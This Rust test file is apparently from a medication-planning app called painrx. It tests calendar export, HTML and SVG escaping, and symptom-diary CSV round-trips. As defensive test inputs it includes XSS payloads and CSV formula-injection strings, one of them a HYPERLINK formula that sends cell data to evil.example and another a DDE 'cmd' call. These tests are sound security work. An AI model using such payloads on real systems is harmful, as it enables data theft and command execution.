//! Rendered plans read back: the iCalendar file parses to the same doses; the page escapes text.

// Test code may panic: clippy.toml's in-test allowances cover `#[test]` functions, not this
// file's helpers, so the workspace's no-panic lints are lifted for the whole file.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::path::Path;
use std::sync::OnceLock;

use chrono::NaiveDate;
use icalendar::{Calendar, Component};
use painrx_engine::range::Kidneys;
use painrx_engine::schedule::{taper, titrate, Plan, Step, TaperPace, TitrateOptions};
use painrx_engine::time::Date;
use painrx_kb::vocab::Frequency;
use painrx_kb::Kb;
use proptest::prelude::*;

#[path = "../../../tests/support/diary.rs"]
mod diary;
use diary::{bare, dose};

fn kb() -> &'static Kb {
    static KB: OnceLock<Kb> = OnceLock::new();
    KB.get_or_init(|| {
        Kb::from_dir(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../../content"))
            .unwrap_or_else(|e| panic!("{e}"))
    })
}

fn start() -> Date {
    "2026-12-01".parse().unwrap()
}

/// (date-time, mg) of every dose, as planned.
fn planned(steps: &[Step]) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for step in steps {
        for day in step.start_day..=step.end_day {
            let date = painrx_render::date_of(start(), day);
            for dose in &step.doses {
                out.push((
                    format!(
                        "{}T{}00",
                        date.format("%Y%m%d"),
                        dose.time.to_string().replace(':', "")
                    ),
                    painrx_kb::quantity::format_number(dose.mg),
                ));
            }
        }
    }
    out.sort();
    out
}

/// (date-time, mg) of every event, read back from the iCalendar text.
fn parsed(text: &str) -> Vec<(String, String)> {
    let calendar: Calendar = text
        .parse()
        .unwrap_or_else(|e| panic!("the .ics does not parse: {e}"));
    let mut out: Vec<(String, String)> = calendar
        .components
        .iter()
        .filter_map(|c| c.as_event())
        .map(|e| {
            let start = e.property_value("DTSTART").unwrap_or_default().to_string();
            let summary = e.get_summary().unwrap_or_default();
            // "Pregabalin 75 mg — 1 × 75 mg capsule"
            let mg = summary
                .split(" mg")
                .next()
                .and_then(|s| s.rsplit(' ').next())
                .unwrap_or_default()
                .to_string();
            (start, mg)
        })
        .collect();
    out.sort();
    out
}

fn ics(plan: &Plan) -> String {
    painrx_render::ics::calendar("plan", &plan.drug, &plan.steps, start(), &|id| {
        id.to_string()
    })
    .to_string()
}

#[test]
fn titration_calendar_parses_back_to_the_same_doses() {
    let options = TitrateOptions {
        indication: Some("fibromyalgia"),
        ..Default::default()
    };
    let plan = titrate(kb(), "pregabalin", &options).unwrap_or_else(|e| panic!("{e}"));
    let text = ics(&plan);
    let back = parsed(&text);
    assert_eq!(back, planned(&plan.steps));
    assert_eq!(
        back.first().map(|(t, mg)| (t.as_str(), mg.as_str())),
        Some(("20261201T080000", "75"))
    );
}

#[test]
fn page_escapes_text_and_has_the_parts_people_need() {
    let options = TitrateOptions {
        indication: Some("fibromyalgia"),
        ..Default::default()
    };
    let plan = titrate(kb(), "pregabalin", &options).unwrap_or_else(|e| panic!("{e}"));
    let warnings = vec!["<script>alert(1)</script>".to_string()];
    let page = painrx_render::html::Page {
        title: "Pregabalin <b>titration</b>",
        subtitle: "For fibromyalgia",
        default_drug: &plan.drug,
        warnings: &warnings,
        sources: &[],
    };
    let html = painrx_render::html::schedule(&page, &plan.steps, start(), &|id| id.to_string())
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(!html.contains("<script>alert(1)</script>") && html.contains("&lt;script&gt;"));
    assert!(!html.contains("<b>titration</b>"));
    let days = plan.steps.last().map(|s| s.end_day).unwrap_or(0) as usize;
    assert_eq!(
        html.matches("<tr>").count(),
        days + 1,
        "one row per day plus the header"
    );
    assert!(html.contains("class=\"box\""), "tick boxes");
    assert!(html.contains("If you miss a dose"));
}

#[test]
fn bad_start_dates_are_refused() {
    assert!("2026-02-30".parse::<Date>().is_err());
    assert!("tomorrow".parse::<Date>().is_err());
    assert_eq!(painrx_render::start_date(Some(start())).ok(), Some(start()));
    assert_eq!(
        painrx_render::start_date(None).ok(),
        painrx_render::today().ok(),
        "no start date: today"
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn any_plan_calendar_parses_back(choice in 0usize..5, crcl in prop::option::of(10.0f64..120.0)) {
        let plan = match choice {
            0 => titrate(kb(), "gabapentin", &TitrateOptions { indication: Some("postherpetic-neuralgia"), kidneys: Kidneys { crcl_ml_min: crcl, hemodialysis: false }, ..Default::default() }),
            1 => titrate(kb(), "pregabalin", &TitrateOptions { indication: Some("postherpetic-neuralgia"), kidneys: Kidneys { crcl_ml_min: crcl, hemodialysis: false }, ..Default::default() }),
            2 => titrate(kb(), "milnacipran", &TitrateOptions { indication: Some("fibromyalgia"), ..Default::default() }),
            3 => taper(kb(), "gabapentin", None, 600.0, Some(Frequency::Tid), &TaperPace::Standard),
            _ => taper(kb(), "lorazepam", None, 1.0, Some(Frequency::Tid), &TaperPace::Fast),
        };
        if let Ok(plan) = plan {
            prop_assert_eq!(parsed(&ics(&plan)), planned(&plan.steps));
        }
    }
}

// ---- The symptom diary: CSV, chart, clinician report ----

use painrx_engine::assess::Area;
use painrx_engine::diary::{Entry, EntryData};
use painrx_render::chart::{diary_chart, ChartMark};
use painrx_render::csv::{diary_csv, diary_from_csv, CSV_COLUMNS};
use painrx_render::RenderError;

/// Several entries a day, every field, text that breaks naive CSV (commas, quotes, `;`,
/// newlines, unicode).
fn rich_diary() -> Vec<EntryData> {
    let mut morning = bare("2026-01-05", Some("07:30"), 7);
    morning.fatigue = Some(6);
    morning.sleep = Some(3);
    morning.stiffness = Some(8);
    morning.fog = Some(5);
    morning.mood = Some(4);
    morning.anxiety = Some(2);
    morning.wpi = Some(11);
    morning.sss = Some(8);
    morning.fiqr = Some(54.3);
    morning.areas = vec![Area::LowerBack, Area::LeftHip, Area::Neck];
    morning.doses = vec![
        dose("pregabalin", 75.0, true),
        dose("duloxetine", 30.0, false),
    ];
    morning.side_effects = vec!["dizziness; mild".into(), "said \"woozy\", twice".into()];
    morning.note =
        Some("Réveil difficile, « 7/10 »;\n\"it's worse\" \\ <script>x</script> 😣".into());
    let mut same_minute = bare("2026-01-05", Some("07:30"), 6);
    same_minute.note = Some("  spaces kept  ".into());
    let mut evening = bare("2026-01-05", Some("21:05"), 5);
    evening.doses = vec![dose("paracetamol", 0.1 + 0.2, true)];
    evening.sleep = Some(0);
    let mut next = bare("2026-01-06", None, 10);
    next.areas = Area::ALL.to_vec();
    next.fiqr = Some(0.0);
    vec![
        morning,
        same_minute,
        evening,
        next,
        bare("2028-02-29", Some("00:00"), 0),
    ]
}

#[test]
fn diary_csv_round_trips_exactly() {
    let diary = rich_diary();
    let text = diary_csv(&diary);
    assert_eq!(text.lines().next(), Some(CSV_COLUMNS.join(",").as_str()));
    assert_eq!(
        diary_from_csv(&text).unwrap_or_else(|e| panic!("{e}")),
        diary
    );
    // Lists are unambiguous in their cells.
    assert!(text.contains("lower-back;left-hip;neck"));
    assert!(
        text.contains(r#""[""dizziness; mild"",""said \""woozy\"", twice""]""#),
        "{text}"
    );
    // Columns in another order, a byte-order mark and only the needed columns also read.
    let short = "\u{feff}pain,date,note\n4,2026-02-01,\"a, b\"\n";
    let mut want = bare("2026-02-01", None, 4);
    want.note = Some("a, b".into());
    assert_eq!(diary_from_csv(short).ok(), Some(vec![want]));
    assert_eq!(diary_from_csv(&diary_csv(&[])).ok(), Some(vec![]));
}

fn csv_error(text: &str) -> String {
    match diary_from_csv(text) {
        Ok(entries) => panic!("expected an error, read {entries:?}"),
        Err(e) => e.to_string(),
    }
}

#[test]
fn bad_csv_rows_are_refused_with_their_row_number() {
    let header = CSV_COLUMNS.join(",");
    let good = "2026-01-05,08:00,5,,,,,,,,,,,,,";
    // Row 2 holds a note over two lines: rows are counted as a spreadsheet shows them.
    let with = |bad: &str| format!("{header}\n{good}\"\nsecond line\"\n{bad}\n");
    let cases = [
        (
            "2026-01-06,,11,,,,,,,,,,,,,",
            "CSV row 3: pain must be a whole number from 0 to 10 (got `11`)",
        ),
        ("2026-01-06,,,,,,,,,,,,,,,", "CSV row 3: pain is empty"),
        (
            "2026-01-06,,x,,,,,,,,,,,,,",
            "CSV row 3: pain must be a whole number",
        ),
        (
            "2026-02-30,,4,,,,,,,,,,,,,",
            "CSV row 3: `2026-02-30` is not a date",
        ),
        (
            "2026-01-06,8am,4,,,,,,,,,,,,,",
            "CSV row 3: `8am` is not a time",
        ),
        (
            "2026-01-06,,4,,,,,,,20,,,,,,",
            "CSV row 3: wpi must be a whole number from 0 to 19 (got `20`)",
        ),
        (
            "2026-01-06,,4,,,,,,,,,101,,,,",
            "CSV row 3: fiqr must be a number from 0 to 100",
        ),
        (
            "2026-01-06,,4,,,,,,,,,,left-elbow,,,",
            "CSV row 3: unknown pain area `left-elbow`",
        ),
        (
            "2026-01-06,,4,,,,,,,,,,,dizziness,,",
            "CSV row 3: side_effects must be a JSON list",
        ),
        (
            "2026-01-06,,4,,,,,,,,,,,,\"[{\"\"drug\"\":\"\"x\"\"}]\",",
            "CSV row 3: doses must be a JSON list",
        ),
        (
            "2026-01-06,,4,,,,,,,,,,,,\"[{\"\"drug\"\":\"\"x\"\",\"\"mg\"\":-1}]\",",
            "CSV row 3: a dose of `-1` mg is impossible",
        ),
        ("2026-01-06,,4", "CSV row 3: "),
    ];
    for (bad, want) in cases {
        let message = csv_error(&with(bad));
        assert!(
            message.starts_with(want),
            "`{bad}`: `{message}` does not start with `{want}`"
        );
    }
    // The good part alone reads.
    assert_eq!(
        diary_from_csv(&with("2026-01-06,,4,,,,,,,,,,,,,"))
            .map(|e| e.len())
            .ok(),
        Some(2)
    );
    assert!(csv_error("date,pain,colour\n2026-01-01,3,red\n")
        .starts_with("CSV header: unknown column `colour`"));
    assert!(csv_error("date,note\n2026-01-01,x\n").starts_with("CSV header: no `pain` column"));
    assert!(csv_error("date,pain,pain\n").contains("column `pain` appears twice"));
}

fn stored(entries: Vec<EntryData>) -> Vec<Entry> {
    entries
        .into_iter()
        .enumerate()
        .map(|(i, data)| Entry {
            id: i64::try_from(i).unwrap_or(0) + 1,
            patient: "p1".parse().unwrap(),
            version: 1,
            data,
        })
        .collect()
}

/// `days` daily entries from 2025-01-01, pain falling, fatigue and sleep varying.
fn daily(days: u64) -> Vec<Entry> {
    let first = NaiveDate::from_ymd_opt(2025, 1, 1).unwrap_or_default();
    stored(
        (0..days)
            .map(|d| {
                let date = first + chrono::Days::new(d);
                let mut e = bare(
                    &date.format("%Y-%m-%d").to_string(),
                    Some("20:00"),
                    8 - (d * 6 / days.max(1)) as u8,
                );
                e.fatigue = Some((d % 7) as u8 + 2);
                e.sleep = Some((d % 5) as u8 + 3);
                e.doses = vec![dose(
                    "pregabalin",
                    if d < days / 2 { 150.0 } else { 300.0 },
                    d % 10 != 3,
                )];
                e
            })
            .collect(),
    )
}

/// A small XML well-formedness check: tags nest and close, text has no raw `<` or bad `&`.
fn well_formed(svg: &str) -> Result<(), String> {
    let mut stack: Vec<String> = Vec::new();
    let mut rest = svg.trim();
    while let Some(open) = rest.find('<') {
        let text = &rest[..open];
        for (i, _) in text.match_indices('&') {
            let entity = &text[i..];
            if !["&lt;", "&gt;", "&amp;", "&quot;", "&apos;", "&#"]
                .iter()
                .any(|e| entity.starts_with(e))
            {
                return Err(format!("bare & in `{text}`"));
            }
        }
        let close = rest[open..].find('>').ok_or("unclosed tag")? + open;
        let tag = &rest[open + 1..close];
        if let Some(name) = tag.strip_prefix('/') {
            if stack.pop().as_deref() != Some(name.trim()) {
                return Err(format!("`</{name}>` closes nothing open"));
            }
        } else if !tag.ends_with('/') && !tag.starts_with('?') && !tag.starts_with('!') {
            stack.push(tag.split_whitespace().next().unwrap_or("").to_string());
        }
        rest = &rest[close + 1..];
    }
    if stack.is_empty() && rest.trim().is_empty() {
        Ok(())
    } else {
        Err(format!("left open: {stack:?}"))
    }
}

/// The x coordinates of the data line drawn in `colour` (2 px wide; the legend's is 3).
fn polyline_xs(svg: &str, colour: &str) -> Vec<f64> {
    let wanted = format!("stroke=\"{colour}\" stroke-width=\"2\"");
    svg.split("<polyline")
        .skip(1)
        .find(|p| p.split('>').next().unwrap_or("").contains(&wanted))
        .and_then(|p| p.split("points=\"").nth(1))
        .and_then(|p| p.split('"').next())
        .map(|points| {
            points
                .split_whitespace()
                .filter_map(|xy| xy.split(',').next()?.parse().ok())
                .collect()
        })
        .unwrap_or_default()
}

const PAIN: &str = "#D62728";
const FATIGUE: &str = "#1F77B4";
const SLEEP: &str = "#2CA02C";

#[test]
fn the_chart_is_an_svg_with_three_series_markers_axes_and_a_legend() {
    let mut entries = daily(40);
    entries.reverse(); // any order in, date order out
    let marks = vec![
        ChartMark {
            date: "2025-01-21".parse().unwrap(),
            label: "pregabalin 150 → 300 mg".into(),
        },
        ChartMark {
            date: "2025-01-30".parse().unwrap(),
            label: "ketamine <infusion> & rest".into(),
        },
    ];
    let svg = diary_chart(&entries, &marks).unwrap_or_else(|e| panic!("{e}"));
    assert!(svg.starts_with("<svg") && svg.trim_end().ends_with("</svg>"));
    well_formed(&svg).unwrap_or_else(|e| panic!("{e}"));
    for colour in [PAIN, FATIGUE, SLEEP] {
        let xs = polyline_xs(&svg, colour);
        assert_eq!(xs.len(), 40, "{colour}: one point per entry");
        assert!(
            xs.windows(2).all(|w| w[0] < w[1]),
            "{colour}: sorted by date"
        );
    }
    assert!(svg.contains("pregabalin 150 → 300 mg"));
    assert!(
        svg.contains("ketamine &lt;infusion&gt; &amp; rest"),
        "labels are escaped"
    );
    for text in [
        "Date",
        "Score (0-10)",
        "Pain (0-10, 10 = worst)",
        "Fatigue (0-10)",
        "Sleep quality (0-10, 10 = best)",
        "dose change or session",
        "Jan 2025",
    ] {
        assert!(svg.contains(text), "missing `{text}`");
    }
}

#[test]
fn the_chart_handles_one_entry_two_years_and_refuses_nothing_to_draw() {
    let one = stored(vec![bare("2026-03-01", None, 6)]);
    let svg = diary_chart(&one, &[]).unwrap_or_else(|e| panic!("{e}"));
    assert!(svg.contains("<circle"), "a single entry shows as a dot");
    assert_eq!(polyline_xs(&svg, PAIN).len(), 1);
    assert!(polyline_xs(&svg, FATIGUE).is_empty());

    let two_years = daily(731);
    let svg = diary_chart(
        &two_years,
        &[ChartMark {
            date: "2025-07-02".parse().unwrap(),
            label: "dose change".into(),
        }],
    )
    .unwrap_or_else(|e| panic!("{e}"));
    well_formed(&svg).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(polyline_xs(&svg, PAIN).len(), 731);
    assert!(svg.len() < 400_000, "{} bytes", svg.len());

    assert!(matches!(diary_chart(&[], &[]), Err(RenderError::NoEntries)));
    let bad = serde_json::from_str::<ChartMark>(r#"{"date": "July", "label": "x"}"#);
    assert!(
        bad.as_ref().is_err_and(|e| e
            .to_string()
            .contains("`July` is not a date: write it as YYYY-MM-DD")),
        "{bad:?}"
    );
}

#[test]
fn the_report_escapes_diary_text_and_says_what_it_is_and_is_not() {
    let mut entries = daily(60);
    for (k, e) in entries.iter_mut().enumerate() {
        if k == 5 {
            e.data.note = Some("<script>alert('x')</script> & \"quoted\"".into());
            e.data.side_effects = vec!["<b>dizzy</b>".into()];
        }
    }
    let report = painrx_engine::diary::report(&"p1".parse().unwrap(), &entries, None, None);
    let marks: Vec<ChartMark> = report
        .dose_changes
        .iter()
        .map(|d| ChartMark {
            date: d.date,
            label: format!("{} {} → {} mg", d.drug, d.from_mg, d.to_mg),
        })
        .collect();
    let svg = diary_chart(&entries, &marks).unwrap_or_else(|e| panic!("{e}"));
    let html = painrx_render::report::clinician_report("p1", &report, &svg, &entries)
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(
        !html.contains("<script>"),
        "diary text must not become markup"
    );
    assert!(html.contains(
        "&lt;script&gt;alert(&#x27;x&#x27;)&lt;&#x2f;script&gt; &amp; &quot;quoted&quot;"
    ));
    assert!(!html.contains("<b>dizzy</b>") && html.contains("&lt;b&gt;dizzy"));
    assert!(html.contains("<svg"), "the chart is inserted as markup");
    assert_eq!(
        html.matches("<polyline").count(),
        svg.matches("<polyline").count()
    );
    for text in [
        "association, not cause",
        "not a substitute for clinical judgement",
        "Baseline pain",
        "Current pain",
        "Change from baseline",
        "Responder category (IMMPACT)",
        "Adherence",
        "pregabalin",
        "150 mg → 300 mg",
        "immpact-2008",
    ] {
        assert!(html.contains(text), "missing `{text}`");
    }
    // Baseline 8, current 3 (pain falls from 8 to 3 over the 60 days): −62.5 %, substantial.
    assert_eq!(
        (report.baseline_pain, report.current_pain),
        (Some(8.0), Some(3.0))
    );
    assert!(html.contains("-62.5 %") && html.contains("substantial"));
    // Exactly 6 of the 60 doses were missed: 90 % adherence.
    assert!(html.contains("90 % of the doses recorded were taken"));
    assert_eq!(
        html.matches("<tr><td>20").count(),
        60 + report.dose_changes.len(),
        "one row per entry and dose change"
    );
}

#[test]
fn the_report_refuses_markup_that_is_not_a_painrx_chart() {
    let entries = daily(3);
    let report = painrx_engine::diary::report(&"p1".parse().unwrap(), &entries, None, None);
    for svg in [
        "<div>not svg</div>",
        "<svg onload=\"alert(1)\"></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><foreignObject><iframe/></foreignObject></svg>",
        "<svg><a href=\"javascript:alert(1)\">x</a></svg>",
    ] {
        assert!(
            painrx_render::report::clinician_report("p1", &report, svg, &entries).is_err(),
            "{svg}"
        );
    }
}

/// Probe: `=HYPERLINK(…)` in a note went into the CSV as a formula. Every cell that could start
/// one is written with a leading `'` (OWASP), and reads back exactly as it was.
#[test]
fn csv_cells_that_could_start_a_formula_are_neutralised() {
    let notes = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "'quoted already",
        "''two quotes",
        "plain note",
    ];
    for note in notes {
        let entry = EntryData {
            note: Some(note.to_string()),
            side_effects: vec!["=cmd|' /C calc'!A0".to_string()],
            ..EntryData::new("2026-01-05".parse().unwrap_or_else(|e| panic!("{e}")), 3)
        };
        let text = diary_csv(std::slice::from_ref(&entry));
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|r| {
                r.unwrap_or_else(|e| panic!("{e}"))
                    .iter()
                    .map(str::to_string)
                    .collect::<Vec<_>>()
            })
            .collect();
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell could start a formula: {cell:?}"
            );
        }
        let written = cells.last().unwrap_or_else(|| panic!("no note cell"));
        let guarded = note.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']);
        assert_eq!(
            written.starts_with('\'') && written[1..] == *note,
            guarded,
            "{written:?}"
        );
        assert_eq!(
            diary_from_csv(&text).ok(),
            Some(vec![entry]),
            "{note:?} reads back"
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_valid_diary_round_trips_through_csv(entries in prop::collection::vec(diary::arb_entry(), 0..12)) {
        prop_assert_eq!(diary_from_csv(&diary_csv(&entries)).map_err(|e| e.to_string()), Ok(entries));
    }

    /// Notes that start like a formula (or with the guard itself) round-trip too.
    #[test]
    fn formula_like_notes_round_trip_through_csv(note in "[=+\\-@\t\r'][\\PC\t\r]{0,30}") {
        let entry = EntryData {
            note: Some(note),
            ..EntryData::new("2026-02-01".parse().unwrap_or_else(|e| panic!("{e}")), 5)
        };
        let entries = vec![entry];
        prop_assert_eq!(diary_from_csv(&diary_csv(&entries)).map_err(|e| e.to_string()), Ok(entries));
    }
}
